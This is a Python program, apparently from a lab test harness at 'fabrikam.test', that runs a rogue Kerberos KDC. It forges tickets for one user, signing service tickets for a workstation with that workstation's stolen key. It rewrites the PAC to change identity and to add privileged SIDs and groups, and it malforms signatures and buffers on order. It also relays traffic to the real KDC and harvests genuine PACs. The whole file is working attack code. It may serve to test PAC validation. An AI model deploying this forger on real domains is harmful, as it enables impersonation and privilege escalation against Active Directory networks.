# SPDX-License-Identifier: MIT
"""Runs inside a DC: a KDC that gives one user tickets of its own making, for a thief who has
the workstation's key but not the realm's.

usage: forger.py LISTEN_PORT

Whatever is not about the user goes to the real KDC. The user's TGT is sealed with a key
that all forgers share; the ticket for host/ws1 is sealed with the workstation's real
key, and its PAC is the one that the real KDC gave the user last, changed as ordered.

One JSON object a line on standard input, each answered by a line:
    {"user": NAME, "password": ..., "key": hex, "kvno": N}
                           who it is about, and the workstation's AES256 key
    {"learn": true}        pass everything on, and keep the PAC of what comes back, which
                           every answer has: {"learnt": hex or null}
    {"pac": hex}           that another forger has learnt
    {"forge": {...}}       from now on, with none or some of
        "none": true       no PAC at all
        "drop": [type...]  without these buffers
        "client": NAME     in CLIENT_INFO; "late": seconds added to its time
        "account": NAME, "rid": N, "domain": SID      in LOGON_INFO
        "extra": [SID...]  more ExtraSids; "resource": [SID, RID...] resource groups
        "requester": SID   in PAC_REQUESTER_SID
        "sign": "other"    signed with another key; "flip": N  the byte there is changed
                           after signing
"""
import calendar
import json
import os
import socket
import struct
import sys
import threading
import time

import samba.tests.krb5.rfc4120_pyasn1 as asn1
from pyasn1.codec.der.decoder import decode as der_decode
from pyasn1.codec.der.encoder import encode as der_encode
from pyasn1.codec.native.decoder import decode as from_native
from pyasn1.codec.native.encoder import encode as to_native
from samba.dcerpc import krb5pac, netlogon, samr, security
from samba.ndr import ndr_pack, ndr_unpack
from samba.tests.krb5 import kcrypto

sys.path.append("/run/lab")  # -I leaves it out; last, for there is a samba.py
from kdc_wire import pass_on, receive  # noqa: E402

AES256 = kcrypto.Enctype.AES256
HMAC_AES256 = kcrypto.Cksumtype.SHA1_AES256
REALM = socket.getfqdn().partition(".")[2].upper()
TGT_KEY = kcrypto.Key(AES256, b"of all forgers" + bytes(18))
WS = ["host", "ws1.fabrikam.test"]
AD_IF_RELEVANT, AD_WIN2K_PAC = 1, 128
LOGON_INFO, SRV_CHECKSUM, KDC_CHECKSUM, CLIENT_INFO, REQUESTER = 1, 6, 7, 10, 18
# Signatures of the KDC over the former ticket; a workstation has no key for these.
UNCHECKED = (16, 19)
LEARNT = {}  # the real PAC, and what was ordered
LIFETIME = 3600  # less than any client asks for


def pack(value, kind):
    return der_encode(from_native(value, asn1Spec=kind()))


def unpack(data, kind):
    return to_native(der_decode(data, asn1Spec=kind())[0])


def stamp(seconds):
    return time.strftime("%Y%m%d%H%M%SZ", time.gmtime(seconds))


def seal(key, usage, data, kvno=None):
    sealed = {"etype": AES256, "cipher": kcrypto.encrypt(key, usage, data)}
    return sealed if kvno is None else {**sealed, "kvno": kvno}


def name(parts, kind=2):
    return {"name-type": kind, "name-string": parts}


def words(principal):
    return [bytes(part).decode().lower() for part in principal["name-string"]]


# --- the PAC ---------------------------------------------------------------------------

def buffers_of(pac):
    """PACTYPE [MS-PAC 2.3]: its buffers by type, in their order."""
    count, = struct.unpack_from("<I", pac)
    entries = [struct.unpack_from("<IIQ", pac, 8 + 16 * i) for i in range(count)]
    return {kind: pac[at:at + size] for kind, size, at in entries}


def joined(buffers):
    head, data = struct.pack("<II", len(buffers), 0), b""
    start = 8 + 16 * len(buffers)
    for kind, content in buffers.items():
        head += struct.pack("<IIQ", kind, len(content), start + len(data))
        data += content + bytes(-len(content) % 8)
    return head + data


def sid_attributes(text):
    one = netlogon.netr_SidAttr()
    one.sid, one.attributes = security.dom_sid(text), 7
    return one


def group(rid):
    one = samr.RidWithAttribute()
    one.rid, one.attributes = rid, 0x20000007
    return one


def logon_info(data, order):
    """KERB_VALIDATION_INFO behind its header [MS-RPCE 2.2.6]."""
    ctr = ndr_unpack(krb5pac.PAC_LOGON_INFO_CTR, data[16:], allow_remaining=True)
    info3, base = ctr.info.info3, ctr.info.info3.base
    if "account" in order:
        base.account_name.string = order["account"]
    if "rid" in order:
        base.rid = order["rid"]
    if "domain" in order:
        base.domain_sid = security.dom_sid(order["domain"])
    if "extra" in order:
        sids = [sid_attributes(str(old.sid)) for old in info3.sids or []]
        sids += [sid_attributes(text) for text in order["extra"]]
        info3.sidcount, info3.sids = len(sids), sids
        base.user_flags |= 0x20
    if "resource" in order:
        resource = ctr.info.resource_groups
        resource.domain_sid = security.dom_sid(order["resource"][0])
        rids = [group(rid) for rid in order["resource"][1:]]
        resource.groups.count, resource.groups.rids = len(rids), rids
        base.user_flags |= 0x200
    packed = ndr_pack(ctr)
    packed += bytes(-len(packed) % 8)
    return data[:8] + struct.pack("<II", len(packed), 0) + packed


def client_info(data, order, authtime):
    who = order["client"].encode("utf-16-le") if "client" in order else data[10:]
    when = (authtime + order.get("late", 0) + 11644473600) * 10000000
    return struct.pack("<QH", when, len(who)) + who


def forged_pac(order, authtime):
    buffers = {kind: data for kind, data in buffers_of(LEARNT["pac"]).items()
               if kind not in UNCHECKED}
    buffers[LOGON_INFO] = logon_info(buffers[LOGON_INFO], order)
    buffers[CLIENT_INFO] = client_info(buffers[CLIENT_INFO], order, authtime)
    if "requester" in order:
        buffers[REQUESTER] = ndr_pack(security.dom_sid(order["requester"]))
    # The KDC's, which no workstation can check, is random.
    unsigned = struct.pack("<I", HMAC_AES256) + bytes(12)
    buffers.update({SRV_CHECKSUM: unsigned, KDC_CHECKSUM: unsigned})
    for kind in order.get("drop", ()):
        buffers.pop(kind, None)
    key = LEARNT["key"] if order.get("sign") != "other" else kcrypto.Key(AES256, os.urandom(32))
    made = kcrypto.make_checksum(HMAC_AES256, key, 17, joined(buffers))
    for kind, value in ((SRV_CHECKSUM, made), (KDC_CHECKSUM, os.urandom(12))):
        if kind in buffers:
            buffers[kind] = unsigned[:4] + value
    data = bytearray(joined(buffers))
    if "flip" in order:
        data[order["flip"] % len(data)] ^= 1
    return bytes(data)


# --- tickets -----------------------------------------------------------------------------

def ticket(service, realm, key, kvno, part):
    sealed = seal(key, 2, pack(part, asn1.EncTicketPart), kvno)
    return {"tkt-vno": 5, "realm": realm, "sname": service, "enc-part": sealed}


def times(authtime):
    return {"authtime": stamp(authtime), "starttime": stamp(authtime),
            "endtime": stamp(authtime + LIFETIME)}


FLAGS = {"tgt": "0" * 9 + "11" + "0" * 21, "other": "0" * 10 + "1" + "0" * 21}


def ticket_part(session, client, crealm, authtime, flags, pac=None, transited=""):
    part = {"flags": FLAGS[flags], "key": {"keytype": AES256, "keyvalue": session},
            "crealm": crealm, "cname": client,
            "transited": {"tr-type": 1, "contents": transited.encode()}, **times(authtime)}
    if pac is not None:
        inner = pack([{"ad-type": AD_WIN2K_PAC, "ad-data": pac}], asn1.AuthorizationData)
        part["authorization-data"] = [{"ad-type": AD_IF_RELEVANT, "ad-data": inner}]
    return part


def reply_part(session, nonce, service, realm, authtime, flags):
    return {"key": {"keytype": AES256, "keyvalue": session},
            "last-req": [{"lr-type": 0, "lr-value": stamp(authtime)}], "nonce": nonce,
            "flags": FLAGS[flags], **times(authtime), "srealm": realm, "sname": service}


def as_reply(body):
    now, session = int(time.time()), os.urandom(32)
    service = name(["krbtgt", REALM])
    key = kcrypto.string_to_key(AES256, LEARNT["password"].encode(),
                                (REALM + LEARNT["user"]).encode())
    tgt = ticket(service, REALM, TGT_KEY, 1,
                 ticket_part(session, body["cname"], REALM, now, "tgt"))
    part = pack(reply_part(session, body["nonce"], service, REALM, now, "tgt"), asn1.EncASRepPart)
    return pack({"pvno": 5, "msg-type": 11, "crealm": REALM, "cname": body["cname"],
                 "ticket": tgt, "enc-part": seal(key, 3, part)}, asn1.AS_REP)


def opened_tgt(request):
    """(EncTicketPart, the key for the reply, its usage) if the TGT is a forger's."""
    wrapped = next((p for p in request["padata"] if p["padata-type"] == 1), None)
    ap_req = unpack(wrapped["padata-value"], asn1.AP_REQ)
    try:
        part = unpack(kcrypto.decrypt(TGT_KEY, 2, ap_req["ticket"]["enc-part"]["cipher"]),
                      asn1.EncTicketPart)
    except (kcrypto.InvalidChecksum, ValueError):
        return None
    session = kcrypto.Key(AES256, part["key"]["keyvalue"])
    proof = unpack(kcrypto.decrypt(session, 7, ap_req["authenticator"]["cipher"]),
                   asn1.Authenticator)
    subkey = proof.get("subkey")
    return (part, session, 8) if subkey is None else \
        (part, kcrypto.Key(subkey["keytype"], subkey["keyvalue"]), 9)


def tgs_reply(request):
    found = opened_tgt(request)
    if found is None:
        return None
    part, key, usage = found
    body, session = request["req-body"], os.urandom(32)
    service = body["sname"]
    authtime = calendar.timegm(time.strptime(bytes(part["authtime"]).decode(), "%Y%m%d%H%M%SZ"))
    if words(service)[0] == "krbtgt":
        flags, sealing, kvno, pac = "tgt", TGT_KEY, 1, None
    else:
        order = LEARNT["order"]
        flags, sealing, kvno = "other", LEARNT["key"], LEARNT["kvno"]
        pac = None if order.get("none") else forged_pac(order, authtime)
    made = ticket(service, REALM, sealing, kvno,
                  ticket_part(session, part["cname"], part["crealm"], authtime, flags, pac,
                              LEARNT["order"].get("transited", "")))
    answer = pack(reply_part(session, body["nonce"], service, REALM, authtime, flags),
                  asn1.EncTGSRepPart)
    return pack({"pvno": 5, "msg-type": 13, "crealm": part["crealm"], "cname": part["cname"],
                 "ticket": made, "enc-part": seal(key, usage, answer)}, asn1.TGS_REP)


def learn(reply):
    """The PAC of a real ticket for the workstation."""
    rep = unpack(reply, asn1.TGS_REP)
    if words(rep["ticket"]["sname"]) != WS:
        return
    part = unpack(kcrypto.decrypt(LEARNT["key"], 2, rep["ticket"]["enc-part"]["cipher"]),
                  asn1.EncTicketPart)
    for outer in part["authorization-data"]:
        if outer["ad-type"] == AD_IF_RELEVANT:
            for inner in unpack(outer["ad-data"], asn1.AuthorizationData):
                if inner["ad-type"] == AD_WIN2K_PAC:
                    LEARNT["pac"] = inner["ad-data"]


# --- connections -------------------------------------------------------------------------

def own_reply(request):
    """None: for the real KDC."""
    if "order" not in LEARNT:
        return None
    if request[0] == 0x6A:
        body = unpack(request, asn1.AS_REQ)["req-body"]
        return as_reply(body) if words(body["cname"]) == [LEARNT["user"]] else None
    return tgs_reply(unpack(request, asn1.TGS_REQ)) if request[0] == 0x6C else None


def serve(sock):
    with sock:
        while True:
            request = receive(sock)
            if request is None:
                return
            message = own_reply(request[4:])
            if message is not None:
                reply = struct.pack(">I", len(message)) + message
            else:
                reply = pass_on(request)
                if reply is None:
                    return
                if reply[4] == 0x6D and LEARNT.get("learning"):
                    learn(reply[4:])
            sock.sendall(reply)


def accept(listener):
    while True:
        sock, _ = listener.accept()
        threading.Thread(target=serve, args=(sock,), daemon=True).start()


def obey(order):
    if "key" in order:
        LEARNT.update(order, key=kcrypto.Key(AES256, bytes.fromhex(order["key"])))
    if "pac" in order:
        LEARNT["pac"] = bytes.fromhex(order["pac"])
    LEARNT["learning"] = "learn" in order
    if "forge" in order:
        LEARNT["order"] = order["forge"]
    else:
        LEARNT.pop("order", None)
    return {"learnt": LEARNT["pac"].hex() if "pac" in LEARNT else None}


def main():
    listener = socket.create_server(("0.0.0.0", int(sys.argv[1])))
    threading.Thread(target=accept, args=(listener,), daemon=True).start()
    print("ready", flush=True)
    for line in sys.stdin:
        print(json.dumps(obey(json.loads(line))), flush=True)
    os._exit(0)


if __name__ == "__main__":
    main()
